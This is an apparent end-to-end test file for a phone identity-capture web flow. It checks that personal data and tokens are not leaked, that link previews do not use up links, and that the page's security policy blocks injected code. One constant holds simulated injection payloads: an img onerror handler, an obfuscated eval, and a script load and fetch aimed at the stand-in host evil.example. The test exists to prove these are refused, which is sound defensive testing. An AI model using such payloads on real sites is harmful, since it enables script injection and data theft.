import { createLog } from '@titular/server/kernel/base/log.ts';
import { asId } from '@titular/test-kit/as-id.ts';
import { openBrowser } from '@titular/test-kit/browser/launch-browser.ts';
import { newCpf } from '@titular/test-kit/builders.ts';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTransaction, type Journey, openPhone, readStatus, startJourney } from './fixture.ts';
import { on, press } from './page-steps.ts';

const JOURNEY_MS = 540_000;
const SHOP = 'https://shop.example';

const codeOf = (link: string): string => link.split('/').at(-1) ?? '';

/** Every address in the history of a tab: where it leads back to. */
async function historyOf(page: Page): Promise<string[]> {
  const session = await page.context().newCDPSession(page);
  const { entries } = await session.send('Page.getNavigationHistory');
  return entries.map(({ url }) => url);
}

/** Without what may hold any four digits by chance: the time of a line of the log, and ids. */
const withoutChance = (text: string): string =>
  text.replaceAll(/"time":\d+/g, '').replaceAll(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, '');

/** What a page can have left on the device; a cookie that scripts can read would be among it. */
const leftBehind = (page: Page) =>
  page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookie: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    name: window.name,
  }));
const NOTHING = { local: 0, session: 0, cookie: '', databases: 0, caches: 0, workers: 0, name: '' };

/** Code that somehow got into the page's own script, and what it then tries; each mark tells how the browser refused. */
const INTRUSION = `
  const mark = (name, value) => { document.documentElement.dataset[name] = value; };
  const attempt = (name, run) => { try { run(); mark(name, 'done'); } catch (fault) { mark(name, fault.name); } };
  const hurt = 'document.documentElement.dataset.hurt = 1';
  attempt('inline', () => {
    const script = document.createElement('script');
    script.text = hurt;
    document.body.append(script);
  });
  attempt('markup', () => document.createElement('div').innerHTML = '<img src=x onerror="' + hurt + '">');
  attempt('evaluated', () => globalThis['ev' + 'al'](hurt));
  attempt('address', () => document.createElement('script').src = 'https://evil.example/x.js');
  fetch('https://evil.example/', { mode: 'no-cors' }).then(() => mark('elsewhere', 'done'), (fault) => mark('elsewhere', fault.name));
`;

describe('what stays behind', () => {
  const logged: string[] = [];
  let journey: Journey;
  let browser: Browser;
  beforeAll(async () => {
    journey = await startJourney({}, { log: createLog('trace', { write: (line) => logged.push(line) }) });
    browser = await openBrowser({ kind: 'denied' });
  });
  afterAll(async () => {
    await browser.close();
    await journey.close();
  });

  const cancel = (id: string) =>
    fetch(`${journey.service.url}/api/public/v1/walletid/transactions/${id}/cancel`, {
      method: 'POST',
      headers: { authorization: `Bearer ${journey.token}` },
    });

  test(
    'nothing of person, card, code or token is in an address, in the history, on the device, in what the shop is told, or in the log (R52, R54)',
    async () => {
      const cpf = newCpf();
      const { id, link, token } = await createTransaction(journey, cpf, `${SHOP}/back?cart=7`);
      const { page, origins } = await openPhone(browser);
      const asked: string[] = [];
      page.on('request', (request) => asked.push(request.url(), request.headers()['referer'] ?? ''));
      const referers: (string | undefined)[] = [];
      await page.route(`${SHOP}/**`, (route) => {
        referers.push(route.request().headers()['referer']);
        return route.fulfill({ body: 'back' });
      });
      await page.goto(link);
      await on(page, 'consent');
      await press(page, 'accept');
      await on(page, 'camera');
      expect(await leftBehind(page)).toEqual(NOTHING);
      expect((await historyOf(page)).join()).not.toContain(codeOf(link));
      expect((await cancel(id)).status).toBe(200);
      await page.reload();
      await press(page, 'continue');
      await page.waitForURL(`${SHOP}/**`);
      expect(page.url()).toBe(`${SHOP}/back?cart=7&id=${id}&status=canceled`);
      expect(referers).toEqual([undefined]);
      expect([...origins].sort()).toEqual([journey.service.url, SHOP].sort());
      const canaries = [codeOf(link), token, cpf, 'Maria', 'Silva', '1111', '41111111'];
      const beside = asked.filter((url) => url !== link);
      for (const place of [beside, await historyOf(page), logged])
        for (const canary of canaries) expect(withoutChance(place.join('\n'))).not.toContain(canary);
      expect(logged.length).toBeGreaterThan(0);
    },
    JOURNEY_MS,
  );

  test(
    'whoever looks at a link without running it does not use it up: previews, scanners and prefetching (R53)',
    async () => {
      const { id, link } = await createTransaction(journey);
      for (const method of ['GET', 'HEAD', 'GET'])
        for (const agent of ['facebookexternalhit/1.1', 'Slackbot-LinkExpanding 1.0', 'curl/8.5.0', ''])
          expect((await fetch(link, { method, headers: { 'user-agent': agent } })).status).toBe(200);
      const { page: mail } = await openPhone(browser);
      await mail.route(`${SHOP}/**`, (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: `<link rel="prefetch" href="${link}"><a href="${link}">open</a>`,
        }),
      );
      await mail.goto(`${SHOP}/mail`);
      expect((await readStatus(journey, id)).status).toBe('waiting');
      await mail.locator('a').click();
      await on(mail, 'consent');
      expect(new URL(mail.url()).pathname).toBe('/capture/');
    },
    JOURNEY_MS,
  );

  test(
    'a page that the browser loads before anybody asks for it opens nothing until somebody does (R53)',
    async () => {
      const { id, link } = await createTransaction(journey);
      const { page } = await openPhone(browser);
      await page.addInitScript(() => {
        Object.defineProperty(document, 'prerendering', { value: true, configurable: true });
      });
      const asked: string[] = [];
      page.on('request', (request) => asked.push(`${request.method()} ${new URL(request.url()).pathname}`));
      await page.goto(link, { waitUntil: 'networkidle' });
      expect(asked.filter((call) => call.includes('/capture/session'))).toEqual([]);
      await page.evaluate(() => document.dispatchEvent(new Event('prerenderingchange')));
      await on(page, 'consent');
      expect((await readStatus(journey, id)).status).toBe('waiting');
    },
    JOURNEY_MS,
  );

  test(
    'a used, an unknown and an expired link say so kindly in another browser, and the transaction stays as it is (R53)',
    async () => {
      const { id, link } = await createTransaction(journey);
      const first = await openPhone(browser);
      await first.page.goto(link);
      await on(first.page, 'consent');
      const unused = await createTransaction(journey);
      await journey.service.service.database.db
        .updateTable('capture_links')
        .set({ expires_at: new Date(Date.now() - 1000) })
        .where('subject_id', '=', asId(unused.id))
        .execute();
      for (const [address, screen] of [
        [link, 'link-used'],
        [unused.link, 'link-expired'],
        [`${journey.service.url}/c/${'x'.repeat(32)}`, 'link-invalid'],
      ] as const) {
        const { page } = await openPhone(browser);
        await page.goto(address);
        await on(page, screen);
        expect(await page.locator('h1').innerText()).not.toBe('');
        expect(await leftBehind(page)).toEqual(NOTHING);
        expect(new URL(page.url()).pathname).toBe('/capture/');
      }
      for (const one of [id, unused.id]) expect((await readStatus(journey, one)).status).toBe('waiting');
    },
    JOURNEY_MS,
  );

  test(
    'the page runs no code but its own: what is written into it, evaluated, fetched or sent elsewhere does nothing (R55)',
    async () => {
      const { link } = await createTransaction(journey);
      const { page } = await openPhone(browser);
      await page.route('**/capture/assets/*.js', async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `${await response.text()}\n${INTRUSION}` });
      });
      await page.goto(link);
      await on(page, 'consent');
      const marks = await page.evaluate(() => ({ ...document.documentElement.dataset }));
      expect(marks['hurt']).toBeUndefined();
      expect(marks).toMatchObject({
        inline: 'TypeError',
        markup: 'TypeError',
        evaluated: 'EvalError',
        address: 'TypeError',
        elsewhere: 'TypeError',
      });
    },
    JOURNEY_MS,
  );
});
